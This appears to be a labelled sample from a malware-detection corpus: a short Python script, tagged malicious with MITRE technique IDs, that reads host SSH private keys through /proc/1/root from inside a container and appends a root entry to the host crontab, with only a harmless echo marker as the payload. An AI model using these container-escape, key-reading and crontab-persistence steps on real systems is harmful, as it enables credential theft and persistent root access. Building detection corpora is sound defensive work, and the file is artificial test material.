# label: malicious family=k8s techniques=T1053.003,T1552.004,T1611 lines=3,5,8-9
import os, glob
for p in glob.glob("/proc/1/root/root/.ssh/*") + glob.glob("/proc/1/root/home/*/.ssh/id_*"):
    try:
        print(p, open(p).read()[:64])
    except OSError:
        pass
with open("/proc/1/root/etc/crontab", "a") as f:
    f.write("* * * * * root echo pytriage-corpus\n")
